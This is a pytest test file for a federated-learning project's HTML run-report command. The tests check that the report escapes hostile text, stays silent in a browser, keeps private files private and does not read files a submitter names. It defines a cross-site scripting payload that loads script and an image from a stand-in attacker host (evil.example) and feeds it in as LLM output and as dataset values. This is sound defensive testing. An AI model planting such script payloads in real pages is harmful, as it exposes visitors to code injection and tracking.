"""``pdss report``: the page of a run holds what the run left, is quiet in a browser, and escapes what others wrote."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from flwr.app import ArrayRecord

from pdss_fl.client_app import create_client_app
from pdss_fl.config import RunSettings
from pdss_fl.errors import SettingError
from pdss_fl.messages import PrivacyStatement
from pdss_fl.policy import NodePolicy
from pdss_fl.privacy import Charge, Ledger
from pdss_fl.privacy.counts import TEST_SPLIT
from pdss_fl.privacy.ledger_file import read_ledger
from pdss_fl.results import RunDirectory, accuracy, privacy_summary, versions
from pdss_fl.run_report.material import read_run
from pdss_fl.run_report.page import render_page
from pdss_fl.strategy import StepByStepDistillation
from tests.browser import open_page
from tests.harness import EchoGenerator, LoopbackGrid, context, node, small_run
from tests.test_cli import pdss

HOSTILE = "<script src='http://evil.example/x.js'>alert(1)</script><img src=http://evil.example/p.png>"
STATEMENT = PrivacyStatement("staircase", "pure-ldp", 4.0, 12.0, 0.0, 3, "basic composition", 0.5, "epsilon=4", "00")


def settings_of(tiny: Path, **changes: Any) -> dict[str, Any]:
    return small_run(tiny, **{"privacy.epsilon": 4.0, "distill.filter": "off", **changes})


def server_run(folder: Path, settings: dict[str, Any], rounds: int = 1, model: str = "echo") -> Path:
    run = RunDirectory(folder)
    run.write("settings.json", RunSettings.from_run_config(settings).flat())
    rows = [
        {"method": m, "round": r, "phase": "evaluate", "node": node, "num-examples": 20, "correct": 4 + 2 * r + i}
        for i, m in enumerate(("standalone", "pdss"))
        for r in range(1, rounds + 1)
        for node in (111, 222)
    ]
    run.write_metrics(rows)
    comparison = {"standalone": accuracy(15, 40), "pdss": accuracy(22, 40), "dss": None}
    llm = {"model": model, "prompts": 80, "tokens": 900}
    absent = [{"method": "pdss", "round": 1, "step": "distill", "node": 333, "why": f"failed (code 107): {HOSTILE}"}]
    summary = {"accuracy": comparison, "left-out": absent, "privacy": privacy_summary(STATEMENT), "llm": llm}
    run.write("summary.json", {**summary, "versions": versions()})
    return folder


class Hostile(EchoGenerator):
    """Answers every prompt with markup."""

    def generate(self, *arguments: Any, **options: Any) -> Any:
        """Yield what an LLM that wants to run in a client's browser would write."""
        from dataclasses import replace

        for rationale in super().generate(*arguments, **options):
            yield replace(rationale, text=HOSTILE)


def client_run(tmp_path: Path, tiny: Path) -> tuple[Path, Path]:
    """Let one deployed client take part in a round; return its folder of the run and its policy file."""
    data = tmp_path / "data.jsonl"
    rows = [
        {"question": f"is <b>number</b> {i} & more?", "choices": ["yes", HOSTILE], "answer": "yes"} for i in range(100)
    ]
    data.write_text("\n".join(map(json.dumps, rows)))
    config = node(tmp_path / "state", data, **{"allowed-models": f"scratch {tiny}", "max-epsilon-per-example": 50.0})
    grid = LoopbackGrid(create_client_app(), {1: context(1, config, settings_of(tiny))})
    StepByStepDistillation(Hostile()).start(grid, ArrayRecord(), num_rounds=1)
    policy = tmp_path / "policy.toml"
    policy.write_text("".join(f"{key} = {json.dumps(value)}\n" for key, value in config.items()))
    return tmp_path / "state" / "runs" / "1", policy


def assert_quiet(page: Path) -> None:
    opened = open_page(page)
    assert opened.console == []
    assert opened.requests == []
    rows = np.flatnonzero(opened.pixels.min(axis=(1, 2)) < 0.9)
    assert len(rows) > 200, "the page shows something"


def test_the_browser_would_tell_of_a_request_and_of_an_error(tmp_path: Path) -> None:
    loud = tmp_path / "loud.html"
    loud.write_text("<img src='http://127.0.0.1:9/p.png'><script>console.error('canary')</script>")
    opened = open_page(loud)
    assert any("canary" in line for line in opened.console)
    assert "http://127.0.0.1:9/p.png" in opened.requests


@pytest.mark.parametrize("rounds", [1, 3])
def test_a_servers_page(tmp_path: Path, tiny: Path, rounds: int) -> None:
    data = {"data.path": str(tmp_path / "not-here.jsonl")}
    run = server_run(tmp_path / "run-7", settings_of(tiny, **data), rounds, HOSTILE)
    page = tmp_path / "page.html"
    page.write_text(render_page(read_run(run)))
    text = page.read_text()
    for said in ("run-7", "37.5%", "55.0%", "not reported or left out", "epsilon 4 a word", "all words equally likely"):
        assert said in text
    assert '<td class="text">333</td><td class="text">failed (code 107): &lt;script' in text
    assert text.count('<img src="data:') == 3
    assert "<script" not in text
    assert "only for who may see its data" not in text
    assert_quiet(page)


def test_a_clients_own_page(tmp_path: Path, tiny: Path) -> None:
    run, policy_file = client_run(tmp_path, tiny)
    policy = NodePolicy.from_node_config({"policy": str(policy_file)})
    material = read_run(run, policy, examples=3)
    assert material.settings is not None
    assert material.settings.privacy.epsilon == 4.0, "the attack is shown for this run's settings, not for the default"
    (client,) = material.clients
    assert client.releases == 8
    assert client.most_spent == 12.0
    assert client.left == 38.0
    assert len(client.shown) == 3
    assert all(row.question.startswith("is <b>number</b>") for row in client.shown)
    page = tmp_path / "page.html"
    page.write_text(render_page(material))
    text = page.read_text()
    assert "is &lt;b&gt;number&lt;/b&gt;" in text
    assert "&lt;script" in text, "what the LLM wrote is shown"
    assert "<script" not in text
    assert "38 left" in text
    assert_quiet(page)


def test_what_a_ledger_holds_besides_prompts_is_counted_and_not_shown(tmp_path: Path, tiny: Path) -> None:
    """Noisy counts are of the test split; weights trained on an example have spent epsilon, and are no text."""
    run, policy_file = client_run(tmp_path, tiny)
    policy = NodePolicy.from_node_config({"policy": str(policy_file)})
    ledger = Ledger(policy.state_dir / "ledger.jsonl", 50.0)
    spent = read_ledger(ledger.path).lines[0]["example"]
    ledger.charge(
        [
            Charge(TEST_SPLIT, None, "geometric epsilon=1.0 run 1 client 0 pdss 1", 30.0, 0.0, {"correct": 3}),
            Charge(spent, None, "dp-sgd clip=1 steps=2 0", 8.0, 1e-5, {}),
        ]
    )
    (client,) = read_run(run, policy).clients
    assert (client.releases, client.examples, client.most_spent, client.left) == (8, 8, 20.0, 30.0)
    assert all(row.sent for row in client.shown)


def test_what_dss_sent_is_told_apart(tmp_path: Path, tiny: Path) -> None:
    run, policy_file = client_run(tmp_path, tiny)
    policy = NodePolicy.from_node_config({"policy": str(policy_file)})
    before = read_run(run, policy).clients[0]
    config = settings_of(tiny)
    allowed = {"allowed-mechanisms": "staircase identity", "max-epsilon-per-example": float("inf")}
    own = node(tmp_path / "state", tmp_path / "data.jsonl", **{"allowed-models": f"scratch {tiny}", **allowed})
    grid = LoopbackGrid(create_client_app(), {1: context(1, own, config)})
    StepByStepDistillation(EchoGenerator(), method="dss").start(grid, ArrayRecord(), num_rounds=1)
    after = read_run(run, policy).clients[0]
    assert (after.raw, after.most_spent) == (8, before.most_spent)
    assert "8 texts as they are" in " ".join(render_page(read_run(run, policy)).split())


def test_the_command(tmp_path: Path, tiny: Path) -> None:
    run, policy = client_run(tmp_path, tiny)
    done = pdss("report", run, "--policy", policy, "--output", tmp_path / "own.html", "--examples", "0")
    assert done.returncode == 0
    assert "is &lt;b&gt;" not in (tmp_path / "own.html").read_text()
    assert (tmp_path / "own.html").stat().st_mode & 0o077 == 0, "it shows private texts"


def test_a_page_that_cannot_be_written_is_named_in_one_line(tmp_path: Path, tiny: Path) -> None:
    run, policy = client_run(tmp_path, tiny)
    done = pdss("report", run, "--policy", policy, "--output", tmp_path / "nowhere" / "own.html")
    assert done.returncode == 1
    assert done.stderr.strip().splitlines()[-1].startswith(f"error: --output = '{tmp_path}/nowhere/own.html' cannot be")


def test_a_folder_that_is_no_run(tmp_path: Path) -> None:
    with pytest.raises(SettingError, match="results:"):
        read_run(tmp_path)


def test_a_servers_page_reads_no_file_that_the_submitter_named(tmp_path: Path, tiny: Path) -> None:
    private = tmp_path / "of-somebody-else.jsonl"
    private.write_text(json.dumps({"question": "is it?", "answer": "yes"}) + "\n")
    run = server_run(tmp_path / "run-8", settings_of(tiny, **{"data.path": str(private)}))
    assert read_run(run).corpus == ()
    (run / "clients").mkdir()  # as after a simulation, in which this machine read the file before
    assert len(read_run(run).corpus) == 1
